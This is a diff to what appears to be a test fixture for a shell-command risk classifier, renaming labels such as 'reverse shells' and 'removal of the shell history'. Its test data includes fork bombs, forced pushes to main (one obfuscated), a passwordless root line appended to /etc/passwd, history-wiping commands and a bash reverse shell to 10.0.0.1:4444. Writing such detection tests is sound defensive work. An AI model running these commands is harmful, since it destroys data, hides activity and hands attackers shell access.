@@ -1,6 +1,6 @@
 import { all, type Rows } from './row.ts'
 
-/** Dangers that no rail is about. */
+/** Dangers without a rail. */
 export const others: Rows = {
   'permissions of the system': all(
     'HIGH',
@@ -30,14 +30,14 @@ export const others: Rows = {
     'f(){ f & f & }; f',
     'function b { b|b& }; b',
   ),
-  'functions that are none': all(
+  'harmless functions': all(
     'LOW',
     'LOW',
     'f() { echo a; }; f',
     'serve() { npm start & }; serve',
     'f() { cat | sort; }; f',
   ),
-  'pushes that throw away': all(
+  'pushes that discard commits': all(
     'HIGH',
     'LOW',
     'git push --force origin main',
@@ -51,7 +51,7 @@ export const others: Rows = {
     'git push --force origin HEAD:refs/heads/production',
     'g"i"t push -"f" origin main',
   ),
-  'pushes that nobody can place': all('UNKNOWN', 'LOW', 'git push --force', 'git push -f origin'),
+  'forced pushes to an unknown branch': all('UNKNOWN', 'LOW', 'git push --force', 'git push -f origin'),
   'other pushes': all(
     'LOW',
     'LOW',
@@ -62,7 +62,7 @@ export const others: Rows = {
     'git push -f origin my-branch',
     'git push --force-with-lease',
   ),
-  'what stays behind': all(
+  'persistent changes': all(
     'HIGH',
     'LOW',
     "echo 'x' >> ~/.bashrc",
@@ -83,7 +83,7 @@ export const others: Rows = {
     'echo root::0:0::/root:/bin/sh >> /etc/passwd',
     'echo x >> ~/.config/fish/config.fish',
   ),
-  'history that is to be lost': all(
+  'removal of the shell history': all(
     'HIGH',
     'LOW',
     'unset HISTFILE',
@@ -97,7 +97,7 @@ export const others: Rows = {
     'rm ~/.bash_history',
     'ln -sf /dev/null ~/.bash_history',
   ),
-  'shells for somebody else': all(
+  'reverse shells': all(
     'HIGH',
     'LOW',
     'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
@@ -118,7 +118,7 @@ export const others: Rows = {
     `python3 -c "import subprocess; subprocess.check_output('ls')"`,
     `python3 -c "import subprocess; subprocess.check_call ('ls')"`,
   ),
-  'code that only looks like it': all(
+  'harmless code that looks similar': all(
     'LOW',
     'LOW',
     'python3 -c "evaluate()"',
